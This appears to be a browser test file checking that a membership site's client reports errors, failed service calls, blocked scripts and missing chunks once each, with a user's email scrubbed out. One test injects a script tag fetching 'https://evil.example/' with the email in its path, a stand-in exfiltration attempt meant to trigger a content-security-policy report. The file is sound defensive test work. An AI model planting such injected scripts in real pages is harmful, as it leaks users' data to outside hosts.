import { expect, inject, test } from 'vitest'
import type { Report } from '../../src-core/ports/reports'
import { en } from '../support/english'
import { openVisitor } from './visit'

const email = 'mira.lund@example.org'

/** A visitor on the plans, whose reports are recorded as they leave the browser; `missing` is a file that does not load. */
async function openReported(missing?: string) {
  const errors = /made up|evil\.example|status of 500|ERR_FAILED|imported module|A screen failed to render/
  const opened = await openVisitor({ refused: /evil\.example/, errors })
  const { context, page, visitor } = opened
  const reports: Report[] = []
  context.on('request', (request) => {
    if (request.url().endsWith('/reports')) reports.push(request.postDataJSON() as Report)
  })
  if (missing) await context.route(missing, (route) => route.abort())
  const reporter = page.waitForResponse('**/assets/load-reporter-*.js')
  await visitor.goTo('/membership')
  await (await reporter).finished()
  const { release } = (await (await page.request.get('/version.json')).json()) as { release: string }
  const expectReports = async (...expected: object[]) => {
    await expect.poll(() => reports).toHaveLength(expected.length)
    expect(reports).toMatchObject(expected.map((report) => ({ ...report, release })))
    expect(JSON.stringify(reports)).not.toContain('mira')
  }
  return { ...opened, expectReports }
}

test('an error, a failed call and a violation are each reported once, scrubbed', async () => {
  const { visitor, page, context, expectReports } = await openReported()
  await page.evaluate((address) => {
    for (const _ of [1, 2])
      queueMicrotask(() => {
        throw new TypeError(`made up for ${address}`)
      })
  }, email)
  const thrown = { type: 'uncaught', message: 'TypeError: made up for [email]', route: '/membership' }
  await expectReports(thrown)

  await context.route(`${inject('service')}/**`, (route) =>
    route.fulfill({ status: 500, headers: { 'access-control-allow-origin': '*' }, json: { email } }),
  )
  await visitor.applyCode('CALM50')
  const failed = { type: 'log', level: 'warning', call: 'previewPrice', kind: 'service-error' }
  await expectReports(thrown, failed)

  await page.evaluate((address) => {
    const script = document.createElement('script')
    script.src = `https://evil.example/${address}.js`
    document.head.append(script)
  }, email)
  await expectReports(thrown, failed, { type: 'policy', kind: 'script-src-elem' })
})

test('a chunk that a deployment removed is reported once, though the page reloads', async () => {
  const chunk = '**/assets/sign-up-*.js'
  const { visitor, page, context, expectReports } = await openReported(chunk)
  await page.route('**/signup', async (route) => {
    await context.unroute(chunk)
    await route.continue()
  })
  await visitor.continueToSignUp()
  await expect(visitor.field(en.fields.password)).toBeShown()
  await expectReports({ type: 'chunk', level: 'error' })
})
